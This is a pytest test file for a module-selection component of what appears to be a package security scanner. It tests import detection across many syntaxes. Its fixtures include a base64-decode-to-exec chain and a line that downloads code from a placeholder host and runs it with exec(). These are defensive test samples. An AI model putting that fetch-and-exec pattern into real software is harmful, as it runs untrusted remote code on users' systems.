"""Which modules hang together: imports are seen however they are written, without parsing."""

from __future__ import annotations

import hashlib

import pytest

from pratique.artifact import Member, Role
from pratique.facts.selection import select
from pratique.names import Sha256

_FEED = "import base64\nTEXT = base64.b64decode('aGVsbG8=')\n"
_SINK = "def run(text):\n    exec(text)\n"


def _member(path: str, source: str) -> Member:
    data = source.encode()
    return Member(
        path=path, data=data, sha256=Sha256(hashlib.sha256(data).hexdigest()), size=len(data), role=Role.MODULE
    )


@pytest.mark.parametrize(
    "line",
    [
        "from pkg import sink",
        "from . import sink",
        "from .import sink",
        "from.sink import run",
        "from .sink import(run)",
        "from . import (\n    other,  # first\n    sink,\n)",
        "from \\\n    . \\\n    import sink",
        "import pkg.sink",
        "import os, pkg.sink as s",
        "x = 1; import pkg.sink",
        "try: from . import sink\nexcept ImportError: pass",
        "__import__('pkg.sink')",
    ],
)
def test_halves_of_a_chain_are_both_parsed_where_one_imports_the_other(line: str) -> None:
    """A source in one module and a sink in another belong together by any spelling of the import."""
    sources = [
        _member("pkg/__init__.py", ""),
        _member("pkg/sink.py", _SINK),
        _member("pkg/feed.py", f"{line}\n{_FEED}"),
    ]
    assert "pkg/feed.py" in select(sources).chosen


@pytest.mark.parametrize("line", ["# import pkg.sink", ">>> from pkg import sink", "important = 'pkg.sink'"])
def test_what_only_speaks_of_a_module_does_not_import_it(line: str) -> None:
    """Comments and examples join nothing."""
    text = f'"""\n{line}\n"""\n{_FEED}' if ">>>" in line else f"{line}\n{_FEED}"
    sources = [_member("pkg/__init__.py", ""), _member("pkg/sink.py", _SINK), _member("pkg/feed.py", text)]
    assert "pkg/feed.py" not in select(sources).chosen


@pytest.mark.parametrize("path", ["examples/a.py", "pkg/tests/deep/a.py", "docs/a.py"])
def test_what_lies_beside_a_package_is_aside(path: str) -> None:
    """Nobody imports it; the initial module of such a folder is a module like any other."""
    source = "import os, urllib.request\nexec(urllib.request.urlopen('http://a.example.invalid').read())\n"
    assert path in select([_member(path, source)]).aside
    assert (
        path.replace("a.py", "__init__.py") not in select([_member(path.replace("a.py", "__init__.py"), source)]).aside
    )
